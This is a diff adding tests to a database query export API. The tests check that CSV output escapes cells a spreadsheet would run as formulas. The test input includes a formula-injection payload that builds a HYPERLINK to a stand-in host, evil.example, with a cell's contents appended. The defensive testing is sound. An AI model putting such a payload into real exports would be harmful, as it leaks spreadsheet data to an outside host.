@@ -99,6 +99,23 @@ describe('POST /platform/pg-meta/{ref}/query/export', () => {
     expect(await empty.json()).toEqual([])
   })
 
+  it('escapes cells a spreadsheet would run as formulas, unless asked for the raw file', async () => {
+    const query = `select '=HYPERLINK("http://evil.example/?"||A1)' as "=link", '@SUM(A1)' as a, '+1+1' as b, -5 as n, E'\\t=1' as t`
+    const escaped = await exportRequest('csv', { query })
+    expect(await escaped.text()).toBe(
+      `'=link,a,b,n,t\r\n"'=HYPERLINK(""http://evil.example/?""||A1)",'@SUM(A1),'+1+1,-5,'\t=1\r\n`,
+    )
+    const raw = await exportRequest('csv&formulas=keep', { query })
+    expect(await raw.text()).toBe(
+      `=link,a,b,n,t\r\n"=HYPERLINK(""http://evil.example/?""||A1)",@SUM(A1),+1+1,-5,"\t=1"\r\n`,
+    )
+    expect((await exportRequest('csv&formulas=run', { query })).status).toBe(400)
+    // JSON is data, not a spreadsheet: it stays as it is
+    expect(await (await exportRequest('json', { query })).json()).toEqual([
+      { '=link': '=HYPERLINK("http://evil.example/?"||A1)', a: '@SUM(A1)', b: '+1+1', n: -5, t: '\t=1' },
+    ])
+  })
+
   it('writes booleans in CSV as the results grid shows them', async () => {
     const response = await exportRequest('csv', {
       query: "select true as yes, false as no, null::bool as unknown, array[true, false] as flags, 'f' as letter",
@@ -193,6 +210,12 @@ describe('export download links (POST .../query/export-url, then GET the fileUrl
     const again = await download(fileUrl)
     expect(again.status).toBe(404)
     expect(await again.json()).toEqual({ message: EXPORT_LINK_INVALID_MESSAGE })
+  })
+
+  it('keeps the formula choice made when the address was handed out', async () => {
+    const query = "select '=1+1' as f"
+    expect(await (await download((await link('csv', { query })).fileUrl)).text()).toBe("f\r\n'=1+1\r\n")
+    expect(await (await download((await link('csv&formulas=keep', { query })).fileUrl)).text()).toBe('f\r\n=1+1\r\n')
   })
 
   it('refuses the address after it expired', async () => {
